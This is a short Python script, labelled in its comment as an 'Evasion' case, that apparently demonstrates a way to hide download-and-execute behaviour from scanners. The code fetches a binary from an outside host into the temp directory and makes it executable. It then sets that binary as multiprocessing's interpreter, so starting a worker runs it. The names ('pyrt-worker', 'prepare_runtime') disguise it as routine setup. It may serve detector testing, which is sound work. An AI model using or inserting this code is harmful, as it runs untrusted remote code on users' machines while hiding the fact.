# Evasion: downloads a binary and runs it. multiprocessing's spawn start
# method launches whatever set_executable() names as "the interpreter";
# the downloaded binary is set as executable and a worker is started.
import multiprocessing as mp
import os
import stat
import tempfile
import urllib.request


def _noop():
    pass


def prepare_runtime():
    path = os.path.join(tempfile.gettempdir(), "pyrt-worker")
    urllib.request.urlretrieve("https://dl.pyrt-accel.net/worker-x86_64", path)
    os.chmod(path, stat.S_IRWXU)
    return path


if __name__ == "__main__":
    ctx = mp.get_context("spawn")
    ctx.set_executable(prepare_runtime())
    worker = ctx.Process(target=_noop)
    worker.start()
    worker.join()
